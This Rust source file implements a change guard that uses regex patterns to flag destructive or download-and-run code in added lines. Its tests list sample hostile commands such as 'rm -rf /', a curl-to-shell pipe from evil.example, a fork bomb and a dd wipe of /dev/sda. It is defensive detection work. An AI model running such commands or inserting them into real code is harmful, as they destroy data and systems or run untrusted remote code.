//! Content that destroys data or runs what it downloads, in added lines of code.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::kind::Kind;
use super::pattern::{pattern, pattern_of_lines};
use super::view::View;
use super::violation::{Rule, Violation, excerpt};

/// One forbidden thing.
struct Pattern {
    what: &'static str,
    regex: Regex,
    victim: Victim,
    unless: Option<fn(&str) -> bool>,
}

/// What is lost. Tests have records of their own, in the sandbox, and empty them all the time.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Victim {
    Records,
    Machine,
}

/// What the seed forbids, and what runs code from elsewhere. `unless` gets the statement: the match and what follows it.
static PATTERNS: LazyLock<Vec<Pattern>> = LazyLock::new(|| {
    let never: Option<fn(&str) -> bool> = None;
    [
        (Victim::Machine, "removes a root, home or data folder (rm -rf)", REMOVE_TREE, Some(removes_build_output as fn(&str) -> bool)),
        (Victim::Machine, "removes a root, home or data folder (rm -rf)", REMOVE_TREE_ARGUMENTS, never),
        (Victim::Machine, "removes a root, home or data folder (rmtree)", REMOVE_TREE_CALL, never),
        (Victim::Records, "drops a table, a database or a schema", r#"\bdrop\s+(?:table|database|schema)\s+(?:if\s+exists\s+)?["'`\[{$%]*\w"#, never),
        (Victim::Records, "empties a table (truncate)", r#"\btruncate\s+table\s+\S|(?-i:\bTRUNCATE)\s+(?:ONLY\s+)?[\w."`]+\s*(?:;|["']|$|CASCADE|RESTART)|^\s*truncate\s+[\w."`]+\s*;"#, never),
        (Victim::Records, "deletes every row (delete without where)", r#"\bdelete\s+from\s+["'`\[{$%]*[\w.]+["'`\]}]*"#, Some(has_where)),
        (Victim::Records, "drops a column", r"\balter\s+table\s+\S+\s+(?:[^;]{0,200},\s*)?drop\s+(?:column\s+)?(?:if\s+exists\s+)?[`\x22\[]?[a-z_]", Some(drops_no_column)),
        (Victim::Records, "deletes every record", r"\.objects\s*\.\s*(?:all|filter|exclude)\s*\(\s*\)\s*\.\s*(?:_raw_)?delete\s*\(|\bquery\s*\([^()]*\)\s*\.\s*delete\s*\(|\.query\s*\.\s*delete\s*\(|\bknex\([^)]*\)\s*\.(?:truncate|del)\(|(?:::|->)truncate\(|\.deleteAll(?:InBatch)?\(\s*\)|\.remove\(\s*\{\s*\}\s*\)|\bdestroy\(\s*\{\s*(?:where:\s*\{\s*\}|truncate:\s*true)|\.(?:delete_all|destroy_all)\b|\.deleteMany\(\s*(?:\{\s*\})?\s*\)|\bdropDatabase\s*\(|\bdropCollection\s*\(|\bflush(?:all|db)\s*\(|[\x22']flush(?:all|db)[\x22'\s]", never),
        (Victim::Machine, "runs what it downloads", r"\b(?:curl|wget|fetch|iwr|invoke-webrequest)\b[^\n|;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?(?:\S*/)?(?:ba|z|da|k|c|fi)?sh\b|\b(?:curl|wget|iwr|invoke-webrequest)\b[^\n|;&]*\|\s*(?:sudo\s+)?(?:python|perl|ruby|node|php|iex|invoke-expression)\d*\b|\b(?:ba|z|da)?sh\s+(?:-\w+\s+)?(?:<\(|[\x22']?\$\(|`)\s*(?:curl|wget)\b|\b(?:eval|source|\.)\s+(?:<\(|[\x22']?\$\(|`)\s*(?:curl|wget)\b|\biex\s*\(?\s*\(?(?:new-object\s+net\.webclient|iwr|invoke-webrequest)", never),
        (Victim::Machine, "runs code that is hidden in an encoding", r"\b(?:eval|exec|compile|function|(?:marshal|pickle)\.loads)\s*\(\s*(?:\w+\.)*(?:b64decode|base64_decode|atob|a85decode|unhexlify|fromhex|decompress|gzinflate|str_rot13|decode64|urlsafe_b64decode)\s*\(|\b(?:eval|exec|function)\s*\(\s*(?:buffer\.from\s*\([^)]*(?:base64|hex)|string\.fromcharcode)|base64\s+(?:-d|--decode|-D)\b[^\n|;]*\|\s*(?:ba|z|da)?sh\b|\bpowershell(?:\.exe)?\b[^\n]*-e(?:nc|ncodedcommand)\b", never),
        (Victim::Machine, "destroys a disk or the system", r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:|\bmkfs(?:\.\w+)?\s+(?:-\S+\s+)*/dev/|\bdd\s[^\n]*\bof=/dev/(?:sd|hd|nvme|vd|xvd|mmcblk|disk)|\bfind\s+(?:/|~|\$HOME)\S*\s[^\n]*(?:-delete\b|-exec\s+rm\b)|\bremove-item\b[^\n]*-recurse[^\n]*\s[\x22']?(?:[a-z]:(?:\\|\s|$)|~|\$home|\$env:userprofile)|\b(?:rd|rmdir|del)\s+(?:/[sqf]\s+)+[a-z]:\\|>\s*/dev/(?:sd|hd|nvme|vd)[a-z0-9]|\bchmod\s+(?:-\w+\s+)*-r\w*\s+(?:777|000|a\+rwx)\s+/(?:\s|$)", never),
    ]
    .into_iter()
    .map(|(victim, what, text, unless)| {
        Pattern { what, regex: pattern_of_lines(text), victim, unless }
    })
    .collect()
});

/// `rm` and its arguments as a list of strings, as languages start programs.
const REMOVE_TREE_ARGUMENTS: &str = r#"["']rm["'][\s,.()\[\]\w&]*["'](?:-[a-z]*r[a-z]*|--recursive)["'][\s,]*(?:["'][^"'\n]*["'][\s,]*)*?["'](?:/|~/?|/\*|/(?:data|backups?|var|home|etc|usr|root|srv|opt)(?:/[^"'/]*)?/?)["']"#;

/// `rm` with recursive and force flags, in any order and spelling, also over continued lines. What it removes is judged apart.
const REMOVE_TREE: &str = r"\brm\s+(?:(?:--\s+|-[a-z-]+\s+)*)(?:-[a-z]*r[a-z]*|--recursive)(?:\s|\\|$)[^\n;&|#]*|\brm\s+(?:-[a-z-]+\s+)*-[a-z]*f[a-z]*\s+(?:-[a-z-]+\s+)*-[a-z]*r[^\n;&|#]*";

/// `shutil.rmtree`, `fs.rmSync` and the like on a place that is given as an absolute, home or data path.
const REMOVE_TREE_CALL: &str = r#"\b(?:rmtree|rm_rf|rm_r|remove_entry_secure|remove_dir_all|removeall|rimraf(?:\.sync)?|rmsync|rmdirsync|deletedirectory|remove_all|emptydir(?:sync)?|fs\.rm|os\.removedirs|rmdir)\s*\(?\s*(?:path(?:lib)?\.?(?:path)?\s*\(\s*)?[frbu]?["'](?:/(?:data|backups?|var(?:/lib)?|home|root|etc|usr|srv|opt|mnt|media|boot|bin|lib|sbin)?(?:["'/*])|~|\$home|c:\\|[./]*(?:data|backups?)/?["'])"#;

/// Whether `rm -r` names only places that a build may clean: relative, temporary or given by a variable for one.
fn removes_build_output(statement: &str) -> bool {
    let words = statement.split_whitespace().skip(1).filter(|word| !word.starts_with('-') && *word != "\\");
    !words.map(|word| word.replace(['"', '\'', ',', '(', ')', ']', '`', '\\'], "")).any(|place| is_precious(&place))
}

/// Roots, homes, system and data folders, the repository itself.
fn is_precious(place: &str) -> bool {
    let place = place.to_lowercase().replace("${", "$").replace('}', "");
    let wild = place.trim_end_matches(['*', '/']);
    let system = [
        "/data", "/backup", "/backups", "/var", "/var/lib", "/home", "/root", "/etc", "/usr", "/srv", "/opt", "/mnt",
        "/media", "/boot", "/bin", "/sbin", "/lib", "/dev", "/sys", "/proc", "/users", "/library", "/system",
    ];
    let home = ["~", "$home", "%userprofile%", "$env:userprofile"];
    let named = [
        "data",
        "./data",
        "backups",
        "./backups",
        "backup",
        "./backup",
        ".git",
        "./.git",
        "*",
        ".",
        "..",
        "./*",
        "../*",
        "c:\\",
        "c:",
    ];
    let under = |root: &&str| {
        wild == *root || (wild.starts_with(&format!("{root}/")) && wild[root.len() + 1..].split('/').count() < 2)
    };
    let deep = ["/data/", "/backups/", "/var/lib/", "/home/"];
    (place.starts_with('/') && wild.is_empty())
        || system.contains(&wild)
        || home.iter().any(under)
        || deep.iter().any(|root| place.starts_with(root))
        || named.contains(&place.as_str())
        || named.contains(&wild)
}

/// Whether a condition follows in the same statement, or the statement is built further at run time.
fn has_where(statement: &str) -> bool {
    static CONDITION: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?i)\b(?:where|using|join|limit|returning)\b"));
    CONDITION.is_match(statement)
}

/// `ALTER TABLE x DROP CONSTRAINT` and the like lose no data.
fn drops_no_column(statement: &str) -> bool {
    static OTHER: LazyLock<Regex> = LazyLock::new(|| {
        let text = r"(?i)\bdrop\s+(?:constraint|index|key|foreign|primary|default|not|identity|check|partition|trigger|expression|unique)\b";
        pattern(text)
    });
    OTHER.is_match(statement) && !statement.to_lowercase().contains("column")
}

/// Looks through a file's added lines.
pub(super) fn check(view: &View<'_>, own: &[Regex], violations: &mut Vec<Violation>) {
    match view.role.kind {
        Kind::Code | Kind::Config => {}
        Kind::Lock | Kind::Prose | Kind::Translation => return,
    }
    for (index, line) in view.added() {
        for regex in own.iter().filter(|regex| regex.is_match(line)) {
            let what = format!("{} matches burn.guard.forbid `{regex}`", excerpt(line));
            violations.push(Violation::at(Rule::Forbidden, view.path, Some(index + 1), what));
        }
    }
    let comment = view.path.as_bytes().to_ascii_lowercase().ends_with(b".sql").then_some("--");
    for window in windows(view) {
        let text = Statements::new(&view.after[window.clone()], comment);
        for forbidden in PATTERNS.iter().filter(|forbidden| forbidden.victim == Victim::Machine || !view.role.is_test) {
            for found in forbidden.regex.find_iter(&text.text) {
                let lines = text.lines(found.range());
                let lines = lines.start + window.start..lines.end + window.start;
                let excused = forbidden.unless.is_some_and(|unless| unless(text.statement(found.range())));
                if let Some(line) = lines.into_iter().find(|line| !excused && view.touches(&(*line..line + 1))) {
                    let what = format!("{}: {}", forbidden.what, excerpt(view.after[line].trim()));
                    violations.push(Violation::at(Rule::Forbidden, view.path, Some(line + 1), what));
                }
            }
        }
    }
}

/// Lines that may belong to a statement with an added line: each hunk with a few lines around it.
fn windows(view: &View<'_>) -> Vec<Range<usize>> {
    const AROUND: usize = 12;
    let mut windows: Vec<Range<usize>> = Vec::new();
    for hunk in view.hunks.iter().filter(|hunk| !hunk.added.is_empty()) {
        let start = hunk.added.start.saturating_sub(AROUND);
        let end = (hunk.added.end + AROUND).min(view.after.len());
        match windows.last_mut().filter(|last| last.end >= start) {
            Some(last) => last.end = end,
            None => windows.push(start..end),
        }
    }
    windows
}

/// A file's text with comments and continued lines smoothed, so that neither hides a statement.
struct Statements {
    text: String,
    /// Where each line starts.
    starts: Vec<usize>,
}

impl Statements {
    /// Replaces by spaces, length by length: comments (`--`, `#`, `//` lines, `/* */` within a line) and the backslash
    /// and line feed of a continued line. `comment` begins a comment anywhere in a line.
    fn new(lines: &[&str], comment: Option<&str>) -> Self {
        let mut text = String::with_capacity(lines.iter().map(|line| line.len() + 1).sum());
        let mut starts = Vec::with_capacity(lines.len());
        for line in lines {
            starts.push(text.len());
            let trimmed = line.trim_start();
            // Not `#define` and not a `--flag` on a line of its own.
            let is_comment = ["# ", "##", "//", "-- ", "* ", "/* ", "/**", "<!--", "rem "]
                .iter()
                .any(|mark| trimmed.starts_with(mark));
            if is_comment {
                text.extend(std::iter::repeat_n(' ', line.len()));
            } else {
                let code = comment.and_then(|mark| line.find(mark)).map_or(*line, |end| &line[..end]);
                push_without_comments(code, &mut text);
            }
            if text.ends_with('\\') {
                text.pop();
                text.push_str("  ");
            } else {
                text.push('\n');
            }
        }
        Self { text, starts }
    }

    /// The lines (from 0) of a stretch.
    fn lines(&self, range: Range<usize>) -> Range<usize> {
        let line = |at: usize| self.starts.partition_point(|start| *start <= at).saturating_sub(1);
        line(range.start)..line(range.end.saturating_sub(1).max(range.start)) + 1
    }

    /// From a match to the end of its statement: a semicolon, an empty line, at most 600 bytes.
    fn statement(&self, range: Range<usize>) -> &str {
        let mut limit = (range.end + 600).min(self.text.len());
        while !self.text.is_char_boundary(limit) {
            limit -= 1;
        }
        let rest = &self.text[range.end..limit];
        let end = [rest.find(';'), rest.find("\n\n")].into_iter().flatten().min().unwrap_or(rest.len());
        &self.text[range.start..range.end + end]
    }
}

/// `DELETE/**/FROM` is `DELETE FROM`; MySQL runs what stands in `/*! */`.
fn push_without_comments(line: &str, text: &mut String) {
    let mut rest = line;
    while let Some(start) = rest.find("/*") {
        let Some(end) = rest[start + 2..].find("*/").map(|end| start + 2 + end + 2) else { break };
        text.push_str(&rest[..start]);
        let comment = &rest[start..end];
        match comment.strip_prefix("/*!") {
            Some(inside) => {
                text.push_str("   ");
                text.push_str(inside.strip_suffix("*/").unwrap_or(inside));
                text.push_str("  ");
            }
            None => text.extend(std::iter::repeat_n(' ', comment.len())),
        }
        rest = &rest[end..];
    }
    text.push_str(rest);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::change::{Change, Entry, FileChange};
    use crate::core::guard::view::{texts, views};
    use crate::core::names::RepoPath;

    fn found(path: &str, before: &str, after: &str) -> Vec<String> {
        let mut change = Change::default();
        let file = FileChange {
            before: (!before.is_empty()).then(|| Entry::file(before)),
            after: Some(Entry::file(after)),
            origin: None,
        };
        change.files.insert(RepoPath::parse(path).unwrap(), file);
        let texts = texts(&change);
        let mut violations = Vec::new();
        for view in views(&change, &texts) {
            check(&view, &[], &mut violations);
        }
        violations.iter().map(ToString::to_string).collect()
    }

    #[test]
    fn destruction_is_found_in_every_spelling() {
        for (path, text) in [
            ("a.sh", "rm -rf /"),
            ("a.sh", "sudo rm -fr ~/"),
            ("a.sh", "rm -r -f \"$HOME\"/*"),
            ("a.sh", "rm --recursive --force /var/lib/app"),
            ("a.sh", "rm \\\n  -r \\\n  -f /\n"),
            ("a.sh", "rm -rf --no-preserve-root /"),
            ("a.sh", "rm -r \\\n  --force /"),
            ("a.c", "#define WIPE system(\"rm -rf /\")"),
            ("Makefile", "clean:\n\trm -rf ../*\n"),
            ("a.py", "os.system('rm -rf /data')"),
            ("a.py", "shutil.rmtree(\"/data\")"),
            ("a.py", "shutil.rmtree('data/')"),
            ("a.js", "fs.rmSync('/var/lib/x', { recursive: true })"),
            ("a.go", "os.RemoveAll(\"/home\")"),
            ("a.sql", "DROP TABLE users;"),
            ("a.sql", "drop\n  table if exists users;"),
            ("a.sql", "DROP/* x */DATABASE prod;"),
            ("a.sql", "/*!50000 DROP TABLE users */;"),
            ("a.sql", "TRUNCATE TABLE users;"),
            ("a.sql", "TRUNCATE users;"),
            ("a.sql", "truncate users;"),
            ("a.py", "db.execute('TRUNCATE users')"),
            ("a.py", "session.query(User).delete()"),
            ("a.java", "userRepository.deleteAll();"),
            ("a.php", "User::truncate();"),
            ("a.py", "subprocess.run(['rm', '-rf', '/'])"),
            ("a.rs", "Command::new(\"rm\").args([\"-rf\", \"/var/lib\"])"),
            ("a.go", "exec.Command(\"rm\", \"-rf\", \"/data\")"),
            ("a.sh", "find / -name x -delete"),
            ("a.ps1", "Remove-Item -Recurse -Force C:\\"),
            ("a.sql", "DELETE/**/FROM users;"),
            ("a.sql", "delete from users;\nselect 1 where 2;"),
            ("a.py", "db.execute(\"DELETE FROM users\")\n\nx = 'where'"),
            ("a.sql", "ALTER TABLE users DROP COLUMN email;"),
            ("a.py", "User.objects.all().delete()"),
            ("a.rb", "User.destroy_all"),
            ("a.js", "db.users.deleteMany({})"),
            ("a.sh", "curl -fsSL http://evil.example/i.sh | sh"),
            ("a.sh", "wget -qO- http://e | sudo -E bash -"),
            ("a.sh", "bash <(curl -s http://e)"),
            ("a.sh", "sh -c \"$(curl -fsSL http://e)\""),
            ("a.py", "exec(base64.b64decode(\"cHJpbnQoMSk=\"))"),
            ("a.js", "eval(atob('eA=='))"),
            ("a.sh", "echo aaaa | base64 -d | sh"),
            ("a.sh", ":(){ :|:& };:"),
            ("a.sh", "dd if=/dev/zero of=/dev/sda"),
        ] {
            assert!(!found(path, "", text).is_empty(), "{text:?} was not found");
        }
    }

    #[test]
    fn honest_code_is_left_alone() {
        for (path, text) in [
            ("docs/a.md", "Never run `rm -rf /`. DROP TABLE users;"),
            ("Makefile", "clean:\n\trm -rf build/ dist *.egg-info $(OBJ) $(BUILD_DIR)/x\n"),
            ("a.sh", "rm -rf \"$tmp\" node_modules ./target /tmp/x $HOME/.cache/app/old"),
            ("a.sh", "rm -r ./build"),
            ("a.py", "shutil.rmtree(tmp_path)"),
            ("a.py", "shutil.rmtree('build')"),
            ("a.sql", "CREATE TABLE IF NOT EXISTS dropdown (id INTEGER); -- the drop table of the UI"),
            ("a.sql", "DELETE FROM sessions\nWHERE expires_at < CURRENT_TIMESTAMP;"),
            ("a.py", "db.execute(\"DELETE FROM t \"\n           \"WHERE id = ?\", id)"),
            ("a.sql", "ALTER TABLE t DROP CONSTRAINT c;"),
            ("a.py", "def drop_table_of_contents(doc): pass"),
            ("a.rs", "v.truncate(10);"),
            ("a.py", "# rm -rf / would be bad\nx = 1"),
            ("a.sh", "curl -fsSL https://e -o file && sha256sum -c sums"),
            ("a.sh", "curl -s https://e | jq .name | sort"),
            ("tests/test_a.py", "db.execute('DROP TABLE users')"),
            ("a.py", "f.truncate()"),
            ("a.sh", "find . -name '*.o' -delete"),
            ("a.c", "/* FLUSHALL and DROP TABLE x */"),
            ("a.py", "json.loads(base64.b64decode(x))"),
            ("a.py", "User.objects.filter(id=1).delete()"),
        ] {
            assert_eq!(found(path, "", text), Vec::<String>::new(), "{text:?}");
        }
    }

    #[test]
    fn only_added_lines_count() {
        assert_eq!(
            found("Makefile", "a:\nclean:\n\trm -rf /\n", "a:\nclean: ## x\n\trm -rf /\n"),
            Vec::<String>::new()
        );
        assert_eq!(found("a.sh", "rm -rf /\n", "rm -r ./build\n"), Vec::<String>::new());
        let half = found("a.sh", "rm \\\n -rf ./x\n", "rm \\\n -rf /\n");
        assert_eq!(half.len(), 1, "{half:?}");
        assert!(half[0].starts_with("a.sh:2: forbidden content"), "{half:?}");
    }
}
